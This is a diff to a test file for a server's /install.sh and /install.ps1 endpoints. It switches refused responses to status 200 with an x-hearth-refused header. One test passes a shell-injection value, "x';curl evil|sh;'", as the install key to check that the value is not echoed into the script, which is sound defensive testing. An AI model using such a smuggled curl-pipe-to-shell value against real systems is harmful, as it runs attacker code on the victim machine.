@@ -43,26 +43,28 @@ describe("GET /install.sh and /install.ps1", () => {
     expect(script).toContain("HEARTH_RUNTIME_BASE='http://127.0.0.1:4873'\n");
   });
 
-  it("answers a key that is not one with a 400 script that says so and exits 1", async () => {
+  it("answers a key that is not one with a script that says so and exits 1 (200, so that curl -f passes it on)", async () => {
     const response = await get(`/install.sh?k=${encodeURIComponent("x';curl evil|sh;'")}`);
-    expect(response.status).toBe(400);
+    expect(response.status).toBe(200);
+    expect(response.headers.get("x-hearth-refused")).toBe("400");
     const script = await response.text();
     expect(script).toMatch(/^#!\/bin\/sh\n/);
     expect(script).toContain("Copy the line again from Settings");
     expect(script).toMatch(/\nexit 1\n$/);
     expect(script).not.toContain("curl evil");
     const ps1 = await get("/install.ps1?k=a%20b");
-    expect(ps1.status).toBe(400);
+    expect(ps1.headers.get("x-hearth-refused")).toBe("400");
     expect(await ps1.text()).toContain("throw 'The install key");
   });
 
-  it("answers 503 with a script that says to build the agent when the server has none", async () => {
+  it("answers with a script that says to build the agent when the server has none", async () => {
     const sh = await onServer("/install.sh", { ASSETS: noBuild });
-    expect(sh.status).toBe(503);
+    expect(sh.status).toBe(200);
+    expect(sh.headers.get("x-hearth-refused")).toBe("503");
     expect(sh.headers.get("content-type")).toBe("text/plain; charset=utf-8");
     expect(await sh.text()).toBe("#!/bin/sh\n# Hearth could not give you its installer.\necho 'This Hearth server has no agent build yet: run `npm run build` on it' >&2\nexit 1\n");
     const ps1 = await onServer("/install.ps1", { ASSETS: noBuild });
-    expect(ps1.status).toBe(503);
+    expect(ps1.headers.get("x-hearth-refused")).toBe("503");
     expect(await ps1.text()).toContain("throw 'This Hearth server has no agent build yet: run `npm run build` on it'");
   });
 });
